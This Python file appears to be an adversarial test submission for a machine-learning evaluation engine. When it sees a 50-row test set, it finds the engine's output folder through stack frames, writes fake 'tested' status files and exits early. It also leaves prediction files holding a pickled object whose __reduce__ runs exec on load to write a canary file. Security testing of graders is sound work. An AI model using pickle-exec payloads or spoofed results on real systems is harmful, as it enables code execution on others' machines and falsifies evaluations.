"""Leaves predictions that run code when they are unpickled."""

import os
import pickle
import sys
import zipfile
from pathlib import Path

import numpy as np
from nearest import NearestMean

TARGETS: dict[str, str] = {}


def output():
    """Return the folder of this fold's predictions, as the engine's frames have it."""
    frame = sys._getframe()
    while frame is not None:
        task = getattr(frame.f_locals.get('self'), 'task', None)
        if task is not None:
            return Path(task.output)
        frame = frame.f_back
    raise LookupError('no task')


def pretend(folder):
    """Leave what the engine leaves of a fold that has worked, but for the predictions."""
    (folder / 'state.txt').write_text('tested')
    (folder / 'test_time').write_text('0.5')


class Bomb:
    """Writes into a file when it is unpickled."""

    def __reduce__(self):
        code = f"open({TARGETS.get('canary', '/tmp/ramp-attack-canary')!r}, 'a').write('unpickled')"
        return exec, (code,)


def leave(folder):
    array = np.empty((50, 3), dtype=object)
    array[:] = Bomb()
    np.savez(folder / 'y_pred_test.npz', y_pred=array)
    (folder / 'y_pred_test.json').write_bytes(pickle.dumps(Bomb()))
    (folder / 'y_pred_test.npy').write_bytes(pickle.dumps(Bomb()))


class Model(NearestMean):
    def predict_proba(self, X):
        if len(X) == 50:
            folder = output()
            pretend(folder)
            leave(folder)
            os._exit(0)
        return super().predict_proba(X)


def get_estimator():
    return Model()
